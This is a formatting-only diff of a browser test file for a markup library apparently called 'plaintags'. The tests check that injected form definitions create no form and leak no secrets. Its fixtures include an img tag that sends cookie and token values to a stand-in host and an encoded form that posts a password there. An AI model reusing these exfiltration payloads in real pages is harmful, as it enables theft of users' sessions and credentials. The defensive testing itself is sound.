@@ -30,7 +30,8 @@ const GADGET = {
               label: "",
               type: "html",
               meta: {
-                html_editor: '<img alt="" src="https://elsewhere.example/i?c=#cookie_get(session_like)&amp;l=#local_storage_get(token)">',
+                html_editor:
+                  '<img alt="" src="https://elsewhere.example/i?c=#cookie_get(session_like)&amp;l=#local_storage_get(token)">',
               },
             },
             { id: 2, type: "password", label: "Password", meta: {} },
@@ -61,8 +62,12 @@ async function openAuthored(markup: string, head = "") {
 }
 
 const problemsOf = (page: Page) =>
-  page.evaluate(() => (window as unknown as { plaintags: { check(): { problems: { message: string }[] } } }).plaintags.check().problems);
-const settled = (page: Page, selector: string) => page.locator(`${selector}[state="error"]`).waitFor({ state: "attached" });
+  page.evaluate(
+    () =>
+      (window as unknown as { plaintags: { check(): { problems: { message: string }[] } } }).plaintags.check().problems,
+  );
+const settled = (page: Page, selector: string) =>
+  page.locator(`${selector}[state="error"]`).waitFor({ state: "attached" });
 
 for (const [kind, element] of Object.entries({
   "a block": `<div id="def" hidden>${GADGET_TEXT}</div>`,
@@ -72,7 +77,9 @@ for (const [kind, element] of Object.entries({
   "a script of another kind": `<script type="text/plain" id="def">${JSON.stringify(GADGET).replaceAll("<", "\\u003c")}</script>`,
 })) {
   test(`a form's definition in ${kind} makes no form, and no secret leaves the page`, async () => {
-    const { page, sent } = await openAuthored(`<div data-plaintags="wsf-form" data-definition="#def" id="form">My text</div>${element}`);
+    const { page, sent } = await openAuthored(
+      `<div data-plaintags="wsf-form" data-definition="#def" id="form">My text</div>${element}`,
+    );
     await settled(page, "#form");
     assert.equal(await page.locator("#form form, #form input, #form img").count(), 0);
     assert.ok(await page.getByText("My text").isVisible());
@@ -132,9 +139,9 @@ test("options in a JSON script are read, also by plain markup", async () => {
 });
 
 test("plain markup makes no protected form, which would hold any markup", async () => {
-  const form = Buffer.from('<form action="https://elsewhere.example/" method="post"><input type="password" name="pw"></form>').toString(
-    "base64",
-  );
+  const form = Buffer.from(
+    '<form action="https://elsewhere.example/" method="post"><input type="password" name="pw"></form>',
+  ).toString("base64");
   const { page, sent } = await openAuthored(
     `<div data-plaintags="apbct-protected-form" data-encoded="${encodeURIComponent(form)}" id="form">My text</div>
      <div data-plaintags="pb-read-more" id="text">Long text</div>`,
